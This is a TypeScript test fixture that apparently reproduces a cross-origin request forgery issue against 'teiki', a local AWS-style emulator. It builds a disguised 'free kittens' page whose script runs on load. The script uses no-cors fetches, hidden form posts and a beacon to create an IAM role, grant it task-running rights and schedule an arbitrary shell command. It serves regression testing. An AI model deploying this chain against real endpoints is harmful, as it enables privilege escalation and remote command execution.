/**
 * The attack issue 14 describes, as a web page: everything a page on another origin can
 * send to teiki without a CORS preflight (no-cors fetches of form and text/plain bodies,
 * HTML form posts into a frame, a beacon), plus the reads it would try. Served by a small
 * server of its own, on another port.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface AttackStep {
  label: string;
  path: string;
  contentType: 'application/x-www-form-urlencoded' | 'text/plain';
  body: string;
}

/** IAM CreateRole as a form post: a role the scheduler may assume. */
export function createRoleForm(roleName: string): string {
  return new URLSearchParams({
    Action: 'CreateRole',
    Version: '2010-05-08',
    RoleName: roleName,
    AssumeRolePolicyDocument: JSON.stringify({
      Version: '2012-10-17',
      Statement: [
        {
          Effect: 'Allow',
          Principal: { Service: 'scheduler.amazonaws.com' },
          Action: 'sts:AssumeRole',
        },
      ],
    }),
  }).toString();
}

/** The chain: a role trusting the scheduler, its policy, a schedule running a command, fire, reset. */
export function attackChain(options: {
  accountId: string;
  subnetId: string;
  taskDefinitionArn: string;
  clusterArn: string;
  command: string;
}): AttackStep[] {
  const form = 'application/x-www-form-urlencoded' as const;
  const text = 'text/plain' as const;
  return [
    { label: 'CreateRole', path: '/', contentType: form, body: createRoleForm('pwn') },
    {
      label: 'PutRolePolicy',
      path: '/',
      contentType: form,
      body: new URLSearchParams({
        Action: 'PutRolePolicy',
        Version: '2010-05-08',
        RoleName: 'pwn',
        PolicyName: 'pwn',
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Action: ['ecs:RunTask', 'iam:PassRole'], Resource: '*' }],
        }),
      }).toString(),
    },
    {
      label: 'CreateSchedule',
      path: '/schedules/pwn',
      contentType: text,
      body: JSON.stringify({
        ScheduleExpression: 'rate(1 day)',
        FlexibleTimeWindow: { Mode: 'OFF' },
        Target: {
          Arn: options.clusterArn,
          RoleArn: `arn:aws:iam::${options.accountId}:role/pwn`,
          Input: JSON.stringify({
            containerOverrides: [{ name: 'app', command: ['sh', '-c', options.command] }],
          }),
          EcsParameters: {
            TaskDefinitionArn: options.taskDefinitionArn,
            LaunchType: 'FARGATE',
            NetworkConfiguration: { awsvpcConfiguration: { Subnets: [options.subnetId] } },
          },
        },
      }),
    },
    {
      label: 'fire',
      path: '/_teiki/fire',
      contentType: text,
      body: JSON.stringify({ schedule: 'pwn' }),
    },
    { label: 'reset', path: '/_teiki/reset', contentType: text, body: '{}' },
  ];
}

/** What the page reads with ordinary (CORS-mode) fetches; none may succeed. */
export const ATTACK_READS = [
  '/_teiki/health',
  '/_teiki/invocations',
  '/?Action=GetCallerIdentity&Version=2011-06-15',
];

/**
 * Requests the page makes per target: each step as a no-cors fetch, each read, one
 * beacon (fire) and two form posts (CreateRole urlencoded, reset as text/plain).
 */
export function requestsPerTarget(steps: readonly AttackStep[]): number {
  return steps.length + ATTACK_READS.length + 1 + 2;
}

/** The page: runs the attack against each base URL ('' = its own origin) on load. */
export function attackHtml(targets: readonly string[], steps: readonly AttackStep[]): string {
  const script = `
const targets = ${JSON.stringify(targets)};
const steps = ${JSON.stringify(steps)};
const reads = ${JSON.stringify(ATTACK_READS)};
const results = [];
function postForm(action, enctype, fields) {
  return new Promise((resolve) => {
    const name = 'f' + Math.random().toString(36).slice(2);
    const frame = document.createElement('iframe');
    frame.name = name;
    frame.onload = () => resolve();
    document.body.appendChild(frame);
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = action;
    form.enctype = enctype;
    form.target = name;
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement('input');
      input.type = 'hidden';
      input.name = key;
      input.value = value;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
  });
}
(async () => {
  for (const base of targets) {
    for (const step of steps) {
      try {
        await fetch(base + step.path, { method: 'POST', mode: 'no-cors', headers: { 'content-type': step.contentType }, body: step.body });
        results.push({ base, what: step.label, outcome: 'sent (opaque answer)' });
      } catch (error) {
        results.push({ base, what: step.label, outcome: 'network error ' + error });
      }
    }
    for (const path of reads) {
      try {
        const res = await fetch(base + path);
        results.push({ base, what: 'read ' + path, outcome: 'READ ' + res.status + ' ' + (await res.text()) });
      } catch (error) {
        results.push({ base, what: 'read ' + path, outcome: 'unreadable' });
      }
    }
    results.push({ base, what: 'beacon fire', outcome: 'queued ' + navigator.sendBeacon(base + '/_teiki/fire', steps[3].body) });
    await postForm(base + '/', 'application/x-www-form-urlencoded', Object.fromEntries(new URLSearchParams(steps[0].body)));
    await postForm(base + '/_teiki/reset', 'text/plain', { '{"a":"': '"}' });
    results.push({ base, what: 'form posts', outcome: 'submitted' });
  }
  window.attackResults = results;
})();
`;
  return `<!doctype html><html><head><title>free kittens</title></head><body><h1>kittens</h1><script>${script}</script></body></html>`;
}

/** Serves `html` at every path, on 127.0.0.1 and a free port: the attacker's site. */
export async function serveAttackPage(
  html: string,
): Promise<{ port: number; close(): Promise<void> }> {
  const server: Server = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
